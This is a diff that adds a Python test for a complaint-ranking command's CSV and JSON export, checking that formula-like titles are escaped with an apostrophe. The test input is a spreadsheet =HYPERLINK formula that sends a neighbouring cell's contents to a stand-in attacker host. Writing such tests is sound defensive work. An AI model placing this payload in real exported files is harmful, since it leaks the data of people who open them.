@@ -617,3 +617,30 @@ def test_refresh_reads_and_writes_all_issues_at_once(world):
         tickets = Ticket.objects.filter(title=title)
         assert set(issues[title].tickets.all()) == set(tickets)
         assert issues[title].key == f"t{min(t.pk for t in tickets)}"
+
+
+def test_cli_csv_output_writes_formula_like_text_as_text(tmp_path):
+    # Titles and message ids are what the public wrote; opened in Excel or WPS, a cell
+    # beginning with = + - @ would be a formula (=HYPERLINK sends data out). The CSV gets
+    # the apostrophe Excel reads as "text", as the Excel export types such cells as text.
+    title = '=HYPERLINK("http://evil.example/?d="&A2,"伊景园滨河苑捆绑销售车位")'
+    rows = [
+        {
+            "message_id": f"@{i}" if i == 0 else str(i),
+            "title": title,
+            "body": "开发商强制捆绑销售车位，不买车位不给交房。",
+            "time": (T0 + dt.timedelta(days=i)).strftime("%Y/%m/%d %H:%M:%S"),
+        }
+        for i in range(3)
+    ]
+    source = write(tmp_path / "m.csv", rows, ["message_id", "title", "body", "time"])
+    out = tmp_path / "top.csv"
+    call_command("hotissues", "--input", str(source), "--top", "1", "--output", str(out))
+    with open(out, encoding="utf-8", newline="") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["title"] == "'" + title
+    assert row["message_ids"].startswith("'@0")
+    assert row["rank"] == "1" and row["messages"] == "3"  # numbers as they were
+    json_out = tmp_path / "top.json"
+    call_command("hotissues", "--input", str(source), "--top", "1", "--output", str(json_out))
+    assert json.loads(json_out.read_text(encoding="utf-8"))[0]["title"] == title  # as mined
